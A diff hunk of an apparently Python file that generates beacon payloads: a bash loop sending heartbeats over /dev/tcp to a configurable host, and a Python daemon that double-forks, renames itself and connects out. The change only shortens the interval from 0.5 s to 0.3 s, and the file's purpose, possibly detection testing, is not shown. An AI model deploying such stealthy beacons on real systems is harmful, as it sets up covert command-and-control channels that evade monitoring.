@@ -140,11 +140,11 @@ s.close()
 
 def beacon_loop(port):
     return (f"n=0; while :; do n=$((n+1)); (echo \"beat $n $$\" > /dev/tcp/{HOST}/{port}) 2>/dev/null; "
-            f"sleep 0.5; done")
+            f"sleep 0.3; done")
 
 
 def beacon_daemon(port):
-    """A Python daemon that double-forks, renames itself and beacons every half second."""
+    """A Python daemon that double-forks, renames itself and beacons every 0.3 s."""
     return f"""import ctypes, os, socket, time
 if os.fork():
     os._exit(0)
@@ -161,7 +161,7 @@ while True:
         s.close()
     except OSError:
         pass
-    time.sleep(0.5)
+    time.sleep(0.3)
 """
 
 
